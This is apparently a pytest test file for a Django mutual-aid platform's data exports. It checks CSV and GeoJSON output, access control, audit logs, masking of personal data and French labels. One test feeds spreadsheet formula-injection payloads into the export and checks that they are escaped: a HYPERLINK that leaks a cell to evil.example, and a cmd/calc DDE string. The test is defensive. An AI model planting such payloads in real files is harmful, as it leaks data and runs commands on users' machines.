import csv
import io
import json

import pytest
from django.test import override_settings
from django.urls import reverse

from entraide.needs.services import ContactInput
from entraide.platform.models import AuditLog

pytestmark = pytest.mark.django_db


def _download(client, **params):
    response = client.get(reverse("insight:export"), params)
    if response.status_code != 200:
        return response, ""
    raw = b"".join(response.streaming_content)
    if params["fmt"] == "csv":
        assert raw.startswith(b"\xef\xbb\xbf"), "no UTF-8 byte-order mark for spreadsheets"
    return response, raw.decode("utf-8-sig")


def test_requests_csv_without_contacts(world, coordinator, client):
    client.force_login(coordinator)
    response, body = _download(client, kind="requests", fmt="csv")

    assert response.status_code == 200
    assert "no-store" in response["Cache-Control"]
    rows = list(csv.DictReader(io.StringIO(body)))
    assert {row["Référence"] for row in rows} == {
        r.reference for key, r in world.requests.items() if key not in ("old_low", "in_12th")
    }
    assert "Téléphone" not in rows[0]
    assert "Odette" not in body and "+33612345678" not in body
    audit = AuditLog.objects.get(action="export_requests")
    assert (audit.actor, audit.subject, audit.purpose) == (
        coordinator,
        "requests.csv:all",
        "without contact data",
    )


def test_requests_geojson_with_contacts_for_the_zone_coordinator(world, coordinator, client):
    client.force_login(coordinator)
    response, body = _download(client, kind="requests", fmt="geojson", contacts="on", zone="75011")

    assert response.status_code == 200
    features = json.loads(body)["features"]
    assert len(features) == 6
    assert {f["properties"]["phone"] for f in features} == {"+33612345678"}
    assert all(f["geometry"]["type"] == "Point" for f in features)
    audit = AuditLog.objects.get(action="export_requests")
    assert (audit.subject, audit.purpose) == ("requests.geojson:75011", "with contact data")


def test_offers_csv(world, coordinator, client):
    client.force_login(coordinator)
    _response, body = _download(client, kind="offers", fmt="csv", contacts="on")

    rows = list(csv.DictReader(io.StringIO(body)))
    assert len(rows) == 2
    assert {row["Types d'aide"] for row in rows} == {"Courses, Transport ou accompagnement"}
    assert {row["Prénom"] for row in rows} == {"Marcel"}


def test_nobody_else_exports(world, coordinator, client, make_volunteer):
    client.force_login(coordinator)
    assert _download(client, kind="requests", fmt="csv", zone="75012")[0].status_code == 404

    client.force_login(make_volunteer().user)
    assert _download(client, kind="requests", fmt="csv", contacts="on")[0].status_code == 403
    assert client.get(reverse("insight:exports")).status_code == 403
    client.logout()
    assert _download(client, kind="requests", fmt="csv")[0].status_code == 302
    assert not AuditLog.objects.filter(action__startswith="export_").exists()


FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Voir")'
RUNNABLE_STARTS = ("=", "+", "-", "@", "\t", "\r")


def test_no_csv_cell_runs_as_a_formula(world, coordinator, client, make_offer, make_request):
    make_offer(
        description=FORMULA,
        availability="@SUM(1+1)*cmd|' /C calc'!A0",
        contact=ContactInput(first_name=FORMULA, phone="+33 7 81 22 33 44"),
    )
    make_request(
        description="+33 dit: -2+3 pour tout le monde",
        contact=ContactInput(first_name="\t=1+1", address="-1+1 rue X", phone="06 12 34 56 78"),
    )
    client.force_login(coordinator)
    cells = []
    for kind in ("offers", "requests"):
        _response, body = _download(client, kind=kind, fmt="csv", contacts="on")
        cells += [cell for row in csv.reader(io.StringIO(body)) for cell in row]

    assert not [cell for cell in cells if cell.startswith(RUNNABLE_STARTS)]
    assert "'" + FORMULA in cells and "'=1+1" in cells
    assert "'-1+1 rue X" in cells


def test_offers_csv_without_contacts_shows_the_scrubbed_availability(
    world, coordinator, client, make_offer
):
    make_offer(availability="Samedi, appelez Marcel au 06 12 34 56 78 ou marcel@example.org")
    client.force_login(coordinator)
    _response, body = _download(client, kind="offers", fmt="csv")

    rows = list(csv.DictReader(io.StringIO(body)))
    assert "Samedi, appelez [prénom masqué] au [téléphone masqué] ou [e-mail masqué]" in {
        row["Disponibilités (sans données personnelles)"] for row in rows
    }
    for secret in ("06 12 34 56 78", "marcel@example.org", "Marcel"):
        assert secret not in body


def test_open_data_csv_is_spreadsheet_safe(world, api):
    response = api.get(reverse("api-open-data-requests-csv"))

    assert response.content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[0] == ["zone", "zone_name", "category", "day", "requests", "source"]


# What a spreadsheet user must never meet: codes and English column names.
CODES = ("groceries", "medicines", "transport", "open", "matched", "done", "cancelled", "web")
ENGLISH_TITLES = ("reference", "category", "urgency", "status", "created_at", "first_name")


@pytest.mark.parametrize("kind", ["requests", "offers"])
def test_csv_speaks_french_words_not_codes(world, coordinator, client, kind):
    """The CSV is for people (see entraide/insight/exports.py): titles and values in words."""
    client.force_login(coordinator)
    client.cookies["django_language"] = "fr"
    _response, body = _download(client, kind=kind, fmt="csv", contacts="on")

    rows = list(csv.reader(io.StringIO(body)))
    assert not set(rows[0]) & set(ENGLISH_TITLES), rows[0]
    cells = {cell for row in rows[1:] for cell in row}
    assert not cells & set(CODES), cells & set(CODES)
    assert not [cell for cell in cells if cell.startswith(("1,", "2,", "3,"))]
    if kind == "requests":
        header = rows[0]
        statuses = {row[header.index("Statut")] for row in rows[1:]}
        assert statuses <= {"Ouverte", "Bénévole trouvé", "En cours", "Terminée", "Annulée"}
        assert "Dans les 24 heures" in {row[header.index("Urgence")] for row in rows[1:]}
        assert "Courses" in {row[header.index("Type d'aide")] for row in rows[1:]}


def test_geojson_keeps_the_codes_for_mapping_software(world, coordinator, client):
    client.force_login(coordinator)
    client.cookies["django_language"] = "fr"
    _response, body = _download(client, kind="offers", fmt="geojson")

    properties = json.loads(body)["features"][0]["properties"]
    assert properties["categories"] == "groceries transport"
    assert properties["status"] in {"open", "paused"}


def test_the_exports_page_says_which_format_is_for_whom(coordinator, client):
    client.force_login(coordinator)
    client.cookies["django_language"] = "fr"
    page = client.get(reverse("insight:exports")).content.decode()

    assert "Le CSV s'ouvre dans un tableur" in page.replace("&#x27;", "'")
    assert "Inclure les coordonnées" in page
    assert "Include contact details" not in page
    assert not [code for code in CODES if f"« {code} »" in page or f"“{code}”" in page]


@override_settings(ENTRAIDE_HOTLINE_NUMBER="", ENTRAIDE_OPERATOR_NUMBER="")
def test_the_exports_page_warns_that_posters_have_no_number(coordinator, client):
    client.force_login(coordinator)
    client.cookies["django_language"] = "fr"
    page = client.get(reverse("insight:exports")).content.decode().replace("&#x27;", "'")

    assert "Aucun numéro de permanence n'est configuré" in page


@override_settings(ENTRAIDE_HOTLINE_NUMBER="+33143556677")
def test_no_warning_about_posters_with_a_number(coordinator, client):
    client.force_login(coordinator)
    client.cookies["django_language"] = "fr"
    page = client.get(reverse("insight:exports")).content.decode().replace("&#x27;", "'")

    assert "Aucun numéro de permanence" not in page
